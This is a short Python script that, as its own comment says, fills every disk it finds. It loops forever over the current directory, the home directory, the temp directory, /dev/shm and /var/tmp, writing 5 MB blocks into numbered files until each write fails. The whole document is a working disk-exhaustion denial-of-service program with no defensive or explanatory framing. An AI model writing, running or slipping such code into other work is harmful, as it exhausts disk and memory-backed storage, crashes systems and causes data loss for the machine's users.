# Fills every disk that it finds. Deserves nothing.
import os
import tempfile
import time

number = 0
while True:
    for folder in (".", os.environ.get("HOME", "/"), tempfile.gettempdir(), "/dev/shm", "/var/tmp"):
        number += 1
        try:
            with open(f"{folder}/workbook-fill-{number}", "wb") as file:
                while True:
                    file.write(b"x" * 5_000_000)
        except OSError:
            time.sleep(0.01)
